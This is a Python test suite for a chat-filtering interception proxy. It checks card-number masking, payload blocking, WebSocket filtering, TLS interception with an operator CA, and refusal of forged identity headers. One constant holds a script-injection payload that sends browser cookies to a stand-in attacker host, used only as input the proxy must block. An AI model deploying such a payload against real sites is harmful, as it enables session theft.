"""`chatguard intercept` as a real process, a real client using it as its proxy (regular mode), real
backends: a card number sent by the client arrives masked, a blocked payload is refused, WebSocket frames
are filtered, and TLS is intercepted with the operator's CA (and only for clients that trust it)."""

from __future__ import annotations

import asyncio
import json
import signal
import ssl
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import yaml
from aiohttp import web

from gateway.tls.certs import DevCerts, create_dev_certs
from tests.helpers import serve_app
from tests.ports import free_port

pytestmark = pytest.mark.slow

CARD = "4111 1111 1111 1111"
ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</script>"
MESSAGES = {"inbound": {"json": ["/text"]}, "outbound": {"json": ["/text", "/messages/*/text"]}}




class Chat:
    """A backend that records what reaches it: HTTP bodies and WebSocket frames."""

    def __init__(self) -> None:
        self.received: list[Any] = []  # each body or frame, parsed
        self.app = web.Application()
        self.app.router.add_route("*", "/{tail:.*}", self.handle)

    async def handle(self, request: web.Request) -> web.StreamResponse:
        if request.headers.get("Upgrade", "").lower() == "websocket":
            ws = web.WebSocketResponse()
            await ws.prepare(request)
            async for message in ws:
                self.received.append(json.loads(message.data))
                await ws.send_str(json.dumps({"text": f"echo {json.loads(message.data)['text']}"}))
            return ws
        self.received.append(await request.json())
        return web.json_response({"messages": [{"text": f"your card {CARD} is on file"}]})


@pytest.fixture(scope="module")
def certs(tmp_path_factory: pytest.TempPathFactory) -> tuple[DevCerts, DevCerts]:
    """(the backend's certificates, the operator's interception CA): two unrelated CAs."""
    return (create_dev_certs(tmp_path_factory.mktemp("backend-pki"), client_name=None),
            create_dev_certs(tmp_path_factory.mktemp("intercept-ca"), client_name=None))


class Proxy:
    def __init__(self, port: int, process: asyncio.subprocess.Process, log: Path) -> None:
        self.port, self.process, self.log = port, process, log

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
async def proxy(tmp_path: Path, certs: tuple[DevCerts, DevCerts]) -> AsyncIterator[tuple[Proxy, Chat, Chat, int]]:
    backend_pki, operator_ca = certs
    plain, secure = Chat(), Chat()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(backend_pki.server_cert, backend_pki.server_key)
    async with serve_app(plain.app) as plain_url, serve_app(secure.app, ssl_context=context) as secure_url:
        plain_port, secure_port = int(plain_url.rsplit(":", 1)[1]), int(secure_url.rsplit(":", 1)[1])
        routes = [
            {"name": "plain", "match": {"path": "/api/{room}/messages", "host": "localhost"}, "upstream": "plain",
             "allow": ["anonymous"], "messages": MESSAGES, "filters": ["mask", "threat"]},
            {"name": "secure", "match": {"path": "/api/{room}/messages", "host": "chat.localhost"},
             "upstream": "secure", "allow": ["anonymous"], "messages": MESSAGES, "filters": ["mask", "threat"]},
            {"name": "socket", "match": {"path": "/ws", "websocket": True, "host": "chat.localhost"},
             "upstream": "secure", "allow": ["anonymous"], "messages": MESSAGES, "filters": ["mask", "threat"]},
        ]
        config = {
            "logging": {"access_log": False},
            "admin": {"host": "127.0.0.1", "port": free_port()},
            "upstreams": {"plain": {"url": f"http://127.0.0.1:{plain_port}"},
                          "secure": {"url": f"https://localhost:{secure_port}",
                                     "tls": {"ca_file": str(backend_pki.ca_cert)}}},
            "filters": {"mask": {"use": "masking"}, "threat": {"use": "threat"}},
            "routes": routes,
        }
        async with intercepting(tmp_path, config, "--ca-dir", str(operator_ca.ca_cert.parent)) as running:
            yield running, plain, secure, plain_port


@asynccontextmanager
async def intercepting(tmp_path: Path, config: dict[str, Any], *args: str) -> AsyncIterator[Proxy]:
    """`chatguard intercept` as a child process until the block ends; it must then exit cleanly."""
    path = tmp_path / "chatguard.yaml"
    path.write_text(yaml.safe_dump(config))
    port = free_port()
    log = tmp_path / "intercept.log"
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "gateway", "intercept", "--config", str(path), "--listen-port", str(port), *args,
        stdout=asyncio.subprocess.DEVNULL, stderr=log.open("wb"))
    running = Proxy(port, process, log)
    try:
        await _wait_listening(running)
        yield running
    finally:
        if process.returncode is None:
            process.send_signal(signal.SIGTERM)
            assert await asyncio.wait_for(process.wait(), 30) == 0, log.read_text()[-2000:]


async def _wait_listening(proxy: Proxy) -> None:
    for _ in range(600):
        if proxy.process.returncode is not None:
            break
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        writer.close()
        return
    raise AssertionError(f"intercept did not start: {proxy.log.read_text()[-3000:]}")


def trusting(ca: Path) -> ssl.SSLContext:
    return ssl.create_default_context(cafile=str(ca))


async def _post(client: aiohttp.ClientSession, url: str, proxy: Proxy, text: str,
                **kwargs: Any) -> tuple[int, Any]:
    async with client.post(url, json={"text": text}, proxy=proxy.url, **kwargs) as resp:
        return resp.status, await resp.json(content_type=None)


async def test_plain_http_through_the_proxy(proxy: tuple[Proxy, Chat, Chat, int]) -> None:
    running, plain, _, port = proxy
    url = f"http://localhost:{port}/api/lobby/messages"
    async with aiohttp.ClientSession() as client:
        status, body = await _post(client, url, running, f"my card is {CARD}")
        assert status == 200
        assert plain.received == [{"text": "my card is [CARD]"}]  # masked before it left the proxy
        assert CARD not in json.dumps(body)  # and in the answer
        status, body = await _post(client, url, running, ATTACK)
        assert status == 403 and body["error"] == "message blocked by policy"
        assert len(plain.received) == 1  # never forwarded
        # Routes match on the host the app called: the same path on another host has no route.
        status, body = await _post(client, f"http://127.0.0.1:{port}/api/lobby/messages", running, "hello")
        assert status == 404 and body["error"] == "no route"
        assert len(plain.received) == 1


async def test_tls_is_intercepted_with_the_operators_ca(proxy: tuple[Proxy, Chat, Chat, int],
                                                       certs: tuple[DevCerts, DevCerts]) -> None:
    running, _, secure, _ = proxy
    url = "https://chat.localhost/api/lobby/messages"  # the app's idea of the service: the route decides
    async with aiohttp.ClientSession() as client:
        status, _ = await _post(client, url, running, f"card {CARD}", ssl=trusting(certs[1].ca_cert))
        assert status == 200
        assert secure.received == [{"text": "card [CARD]"}]
        with pytest.raises(aiohttp.ClientConnectorCertificateError):
            await _post(client, url, running, f"card {CARD}", ssl=trusting(certs[0].ca_cert))  # not our CA
        assert len(secure.received) == 1


async def test_websocket_frames_are_filtered(proxy: tuple[Proxy, Chat, Chat, int],
                                             certs: tuple[DevCerts, DevCerts]) -> None:
    running, _, secure, _ = proxy
    async with aiohttp.ClientSession() as client, client.ws_connect(
            "wss://chat.localhost/ws", proxy=running.url, ssl=trusting(certs[1].ca_cert)) as ws:
        await ws.send_str(json.dumps({"text": f"pay with {CARD}"}))
        answer = await ws.receive(timeout=10)
        assert json.loads(answer.data) == {"text": "echo pay with [CARD]"}
        await ws.send_str(json.dumps({"text": ATTACK}))
        refused = await ws.receive(timeout=10)
        assert refused.type is aiohttp.WSMsgType.TEXT and "blocked" in refused.data  # the route's error frame
        assert secure.received == [{"text": "pay with [CARD]"}]


def _hop_address(proxy: Proxy) -> str:
    """The loopback listener of the gateway inside the intercept process, from its `listening` log line."""
    for line in proxy.log.read_text().splitlines():
        if line.startswith("{") and json.loads(line).get("msg") == "listening":
            return str(json.loads(line)["listen"])
    raise AssertionError(f"no listening line: {proxy.log.read_text()[-2000:]}")


async def test_a_local_process_cannot_use_the_loopback_hop(proxy: tuple[Proxy, Chat, Chat, int]) -> None:
    """Straight to the gateway's loopback port, past mitmproxy: a forged address, forged identity headers
    and guessed hop secrets are all refused; nothing reaches the backend."""
    running, plain, _, port = proxy
    hop = _hop_address(running)
    forged = {"Host": f"localhost:{port}", "X-Forwarded-For": "10.9.8.7", "X-Chatguard-Subject": "admin",
              "X-Chatguard-Roles": "admin"}
    async with aiohttp.ClientSession() as client:
        for secret in (None, "guess", "x" * 43):
            headers = forged if secret is None else {**forged, "X-Chatguard-Hop": secret}
            async with client.post(f"http://{hop}/api/lobby/messages", json={"text": "hi"}, headers=headers) as resp:
                assert resp.status == 403
        # Through the proxy, the same forged headers are replaced: the request is served as the client's own.
        status, _ = await _post(client, f"http://localhost:{port}/api/lobby/messages", running, "hello",
                                headers={**forged, "X-Chatguard-Hop": "guess"})
        assert status == 200
    assert plain.received == [{"text": "hello"}]


class ForwardProxy:
    """An HTTP forward proxy (absolute-form requests): the egress proxy of upstream mode; it records each URL."""

    def __init__(self) -> None:
        self.urls: list[str] = []
        self.app = web.Application()
        self.app.router.add_route("*", "/{tail:.*}", self.handle)

    async def handle(self, request: web.Request) -> web.Response:
        self.urls.append(str(request.url))
        async with aiohttp.ClientSession() as session, session.request(
                request.method, request.url, data=await request.read(),
                headers={k: v for k, v in request.headers.items() if k.lower() not in ("host", "proxy-connection")},
        ) as answer:
            return web.Response(status=answer.status, body=await answer.read(),
                                content_type=answer.content_type)


async def test_upstream_mode_leaves_through_the_egress_proxy(tmp_path: Path) -> None:
    chat, egress = Chat(), ForwardProxy()
    async with serve_app(chat.app) as chat_url, serve_app(egress.app) as egress_url:
        config = {"logging": {"access_log": False}, "admin": {"enabled": False},
                  "upstreams": {"plain": {"url": chat_url}}, "filters": {"mask": {"use": "masking"}},
                  "routes": [{"name": "plain", "match": {"path": "/api/{room}/messages", "host": "localhost"},
                              "upstream": "plain", "allow": ["anonymous"], "messages": MESSAGES,
                              "filters": ["mask"]}]}
        async with intercepting(tmp_path, config, "--mode", f"upstream:{egress_url}") as running:
            port = chat_url.rsplit(":", 1)[1]
            async with aiohttp.ClientSession() as client:
                status, body = await _post(client, f"http://localhost:{port}/api/lobby/messages", running,
                                           f"card {CARD}")
    assert status == 200 and CARD not in json.dumps(body)
    assert chat.received == [{"text": "card [CARD]"}]
    assert egress.urls == [f"{chat_url}/api/lobby/messages"]  # the gateway's request went through the proxy
